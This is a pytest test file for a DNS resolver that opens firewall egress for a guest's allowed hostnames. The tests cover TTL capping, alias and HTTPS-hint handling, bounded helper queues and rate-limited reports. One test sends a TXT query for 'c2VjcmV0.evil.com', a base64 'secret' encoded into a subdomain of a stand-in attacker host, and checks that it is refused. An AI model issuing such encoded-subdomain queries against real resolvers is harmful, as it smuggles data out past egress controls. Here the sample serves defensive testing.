"""Addresses are let through before a guest hears of them, or it does not hear of them."""

from __future__ import annotations

import threading
from collections.abc import Callable
from dataclasses import replace
from ipaddress import IPv4Address, IPv4Network
from pathlib import Path

import dns.message
import pytest

from reconciler.drivers.network.dns import granting
from reconciler.drivers.network.dns.access import Access
from reconciler.drivers.network.dns.granting import Granter
from reconciler.drivers.network.dns.reports import Reports
from reconciler.drivers.network.dns.zone import Address, Host, Zone
from tests.fakes.clock import FakeClock
from tests.fakes.nameserver import SECONDS, FakeNameserver, addresses, answering, asking, rcode, refusing

LAB = Access(
    sources=(IPv4Network("127.0.0.0/8"),), outside=True, egress=("deb.example.org", "*.example.org", "cdn.example.net")
)
ALIAS = (
    "deb.example.org 600 CNAME cdn.example.net.",
    "cdn.example.net 120 A 192.0.2.1",
    "cdn.example.net 120 AAAA 2001:db8::1",
    "other.example.net 120 A 192.0.2.66",
)
Grant = tuple[str, tuple[str, ...], int]


class Gate:
    """Takes what is let through; `hold` keeps it waiting, `problem` refuses."""

    def __init__(self) -> None:
        self.grants: list[Grant] = []
        self.problem: Exception | None = None
        self.hold: Callable[[], object] = lambda: None

    def __call__(self, entry: str, found: tuple[Address, ...], seconds: int) -> None:
        self.hold()
        if self.problem is not None:
            raise self.problem
        self.grants.append((entry, tuple(map(str, found)), seconds))


@pytest.fixture
def gate() -> Gate:
    return Gate()


def test_the_addresses_behind_an_alias_are_let_through_and_no_others(tmp_path: Path, gate: Gate) -> None:
    with (
        FakeNameserver(answering(*ALIAS)) as fake,
        asking(LAB, folder=tmp_path, upstreams=("127.0.0.1",), port=fake.port, allow=gate) as ours,
    ):
        gate.hold = lambda: gate.grants.append(("asked for", (), len(fake.seen)))
        assert "192.0.2.1" in addresses(ours.udp("deb.example.org"))
        # Both entries that the name falls under, since each may be for other ports; not the one of the alias.
        told = [grant for grant in gate.grants if grant[0] != "asked for"]
        assert told == [("deb.example.org", ("192.0.2.1",), 180), ("*.example.org", ("192.0.2.1",), 180)]


def test_ipv6_is_let_through_where_there_is_ipv6(tmp_path: Path, gate: Gate) -> None:
    access = replace(LAB, ipv6=True, egress=("deb.example.org",))
    with (
        FakeNameserver(answering(*ALIAS)) as fake,
        asking(access, folder=tmp_path, upstreams=("127.0.0.1",), port=fake.port, allow=gate) as ours,
    ):
        ours.udp("DEB.example.org", "AAAA")
        assert gate.grants == [("deb.example.org", ("192.0.2.1", "2001:db8::1"), 180)]


def test_hints_of_https_records_are_addresses_too(tmp_path: Path, gate: Gate) -> None:
    record = "cdn.example.net 300 HTTPS 1 . alpn=h2 ipv4hint=192.0.2.7,192.0.2.8 ipv6hint=2001:db8::7"
    with (
        FakeNameserver(answering(record)) as fake,
        asking(LAB, folder=tmp_path, upstreams=("127.0.0.1",), port=fake.port, allow=gate) as ours,
    ):
        ours.udp("cdn.example.net", "HTTPS")
        assert gate.grants == [("cdn.example.net", ("192.0.2.7", "192.0.2.8"), 360)]


def test_no_guest_remembers_longer_than_the_way_is_open(tmp_path: Path, gate: Gate) -> None:
    with (
        FakeNameserver(answering("cdn.example.net 604800 A 192.0.2.1")) as fake,
        asking(LAB, folder=tmp_path, upstreams=("127.0.0.1",), port=fake.port, allow=gate) as ours,
    ):
        (answer,) = ours.udp("cdn.example.net").answer
        ((_, _, seconds),) = gate.grants
        assert answer.ttl < seconds == 86400
        fake.handle = answering("cdn.example.net 0 A 192.0.2.1")
        assert ours.udp("cdn.example.net").answer[0].ttl == 0
        assert gate.grants[-1][2] == 60


def test_what_is_not_let_through_is_not_told(tmp_path: Path, gate: Gate) -> None:
    with (
        FakeNameserver(answering(*ALIAS)) as fake,
        asking(LAB, folder=tmp_path, upstreams=("127.0.0.1",), port=fake.port, allow=gate) as ours,
    ):
        gate.problem = RuntimeError("no")
        for response in (ours.udp("deb.example.org"), ours.tcp("deb.example.org")):
            assert (rcode(response), response.answer) == ("SERVFAIL", [])
        assert len(ours.said) == 1
        gate.problem = None
        assert rcode(ours.udp("deb.example.org")) == "NOERROR"


@pytest.mark.parametrize(("name", "record"), [("example.com", "example.com 60 A 192.0.2.1"), ("cdn.example.net", "cdn.example.net 60 TXT hello"), ("cdn.example.net", "cdn.example.net 60 A 127.0.0.1")])  # fmt: skip
def test_other_answers_let_nothing_through(tmp_path: Path, name: str, record: str) -> None:
    with (
        FakeNameserver(answering(record)) as fake,
        asking(LAB, folder=tmp_path, upstreams=("127.0.0.1",), port=fake.port, allow=refusing) as ours,
    ):
        kind = record.split()[2]
        assert len(ours.udp(name, kind).answer) == 1


def test_with_names_alone_nothing_else_is_asked_outside(tmp_path: Path, gate: Gate) -> None:
    access = replace(LAB, only_egress=True)
    with (
        FakeNameserver(answering()) as fake,
        asking(access, folder=tmp_path, upstreams=("127.0.0.1",), port=fake.port, allow=gate) as ours,
    ):
        assert rcode(ours.udp("c2VjcmV0.evil.com", "TXT")) == "REFUSED"
        assert fake.seen == []
        assert rcode(ours.udp("cdn.example.net", "TXT")) == "NOERROR"


def test_a_slow_helper_delays_nobody_else(tmp_path: Path, gate: Gate) -> None:
    released, reached = threading.Event(), threading.Event()

    def wait() -> None:
        reached.set()
        assert released.wait(SECONDS)

    gate.hold = wait
    zone = Zone([Host(environment="demo", name="web", address=IPv4Address("172.30.7.10"))])
    answers: list[dns.message.Message] = []
    with (
        FakeNameserver(answering(*ALIAS)) as fake,
        asking(LAB, lambda: zone, folder=tmp_path, upstreams=("127.0.0.1",), port=fake.port, allow=gate) as ours,
    ):
        slow = threading.Thread(target=lambda: answers.append(ours.udp("deb.example.org")))
        slow.start()
        assert reached.wait(SECONDS)
        assert addresses(ours.udp("web.vm")) == ["172.30.7.10"]
        fake.handle = answering("example.com 60 A 192.0.2.9")
        assert addresses(ours.udp("example.com")) == ["192.0.2.9"]
        assert answers == []
        released.set()
        slow.join(SECONDS)
        assert rcode(answers[0]) == "NOERROR"


def test_many_addresses_go_in_requests_that_the_helper_takes(tmp_path: Path, gate: Gate) -> None:
    many = [f"cdn.example.net 120 A 192.0.2.{number}" for number in range(150)]
    with (
        FakeNameserver(answering(*many)) as fake,
        asking(LAB, folder=tmp_path, upstreams=("127.0.0.1",), port=fake.port, allow=gate) as ours,
    ):
        assert len(addresses(ours.tcp("cdn.example.net"))) == 150
        assert [len(found) for _, found, _ in gate.grants] == [64, 64, 22]
        assert len({address for _, found, _ in gate.grants for address in found}) == 150


def test_answers_that_wait_for_the_helper_are_bounded() -> None:
    released, reached = threading.Event(), threading.Event()
    results: list[bool] = []
    said: list[str] = []

    def wait(entry: str, found: tuple[Address, ...], seconds: int) -> None:
        reached.set()
        released.wait(SECONDS)

    finished = threading.Event()

    def note(allowed: bool) -> None:
        results.append(allowed)
        if len(results) == granting.MOST + 3:
            finished.set()

    granter = Granter(lambda what: what(), Reports(said.append))
    granter.ask(wait, ("a",), (IPv4Address("192.0.2.1"),), 60, note)
    assert reached.wait(SECONDS)
    for _ in range(granting.MOST + 2):
        granter.ask(wait, ("a",), (IPv4Address("192.0.2.1"),), 60, note)
    assert results == [False, False]
    assert len(said) == 1
    released.set()
    assert finished.wait(SECONDS)
    assert results[2:] == [True] * (granting.MOST + 1)
    granter.stop()
    granter.stop()


def test_reports_are_few_and_count_the_rest() -> None:
    clock, said = FakeClock(), []
    reports = Reports(said.append, interval=30.0, monotonic=clock.monotonic)
    for _ in range(1000):
        reports.report("busy", "too many")
    reports.report("other", "something else")
    assert said == ["too many", "something else"]
    clock.sleep(30.0)
    reports.report("busy", "too many")
    assert said[2:] == ["too many (and 999 more like it since the last such line)"]
